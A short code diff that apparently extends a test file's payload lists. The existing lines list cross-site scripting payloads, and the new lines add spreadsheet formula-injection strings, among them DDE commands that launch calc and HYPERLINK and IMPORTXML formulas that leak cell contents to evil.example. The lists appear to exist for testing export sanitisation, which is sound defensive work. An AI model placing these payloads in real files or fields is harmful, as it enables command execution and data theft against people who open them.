@@ -71,3 +71,16 @@ KNOWN_ACTIVE = [
     '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
     '<details open ontoggle="alert(1)"></details>',
 ]
+
+# Spreadsheet formula injection: text that a spreadsheet would run as a formula when a CSV or XLSX export is opened.
+# They only work at the very start of a cell, so they go into fields as they are (no marker in front).
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "'=1+1",
+    '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
+]
